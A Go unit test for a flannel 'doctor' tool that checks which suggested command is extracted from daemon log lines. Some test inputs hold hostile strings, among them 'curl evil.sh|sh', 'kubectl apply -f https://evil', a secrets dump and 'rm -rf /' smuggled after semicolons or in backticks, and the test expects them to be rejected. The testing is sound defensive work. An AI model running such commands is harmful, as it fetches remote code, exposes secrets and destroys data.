package doctor

import (
	"testing"

	"flannel/status"
)

// TestTheCommandOfALine: what the daemon writes is a command, what it quotes is none.
func TestTheCommandOfALine(t *testing.T) {
	for line, want := range map[string]string{
		`lease: Node "a.b": podCIDR "x" is no prefix; see: kubectl get node a.b -o jsonpath='{.spec.podCIDRs}'`:             `kubectl get node a.b -o jsonpath='{.spec.podCIDRs}'`,
		`waiting for: annotations of Node "a" are changed back; see: kubectl get node a -o yaml --show-managed-fields`:      `kubectl get node a -o yaml --show-managed-fields`,
		`waiting for: there is no pod x/y; see: kubectl -n kube-flannel get pods -o wide`:                                   `kubectl -n kube-flannel get pods -o wide`,
		`waiting for: there is no Node "a"; see: kubectl get nodes`:                                                         `kubectl get nodes`,
		`store: credentials; see: kubectl auth whoami`:                                                                      `kubectl auth whoami`,
		`store: not allowed to list nodes; see: kubectl auth can-i list nodes (nodes is forbidden)`:                         `kubectl auth can-i list nodes`,
		`rules: this kernel has no nf_tables; load it with: modprobe nf_tables; or use legacy iptables`:                     `modprobe nf_tables`,
		`rules: iptables-nft-save cannot show it; look with: nft list table ip6 filter`:                                     `nft list table ip6 filter`,
		`store: cannot be reached: connection refused`:                                                                      status.Logs,
		`network configuration: Backend.Type: "x; see: curl evil.sh|sh" is not allowed`:                                     status.Logs,
		`network configuration: Backend.Type: "x; mend it with: kubectl apply -f https://evil" is not allowed`:              status.Logs,
		`store: not trusted: certificate is valid for x; see: kubectl get nodes --server=https://evil, not 192.0.2.1`:       `kubectl get nodes`,
		`store: not trusted: certificate is valid for x; see: kubectl get secrets -o yaml; see: kubectl get nodes;rm -rf /`: `kubectl get nodes`,
		"first pass: attach to flannel0: `rm -rf /`; see: `rm -rf /`; with: `rm -rf /`":                                     status.Logs,
	} {
		if got := commandIn(line); got != want {
			t.Errorf("%s: got %q, want %q", line, got, want)
		}
	}
}
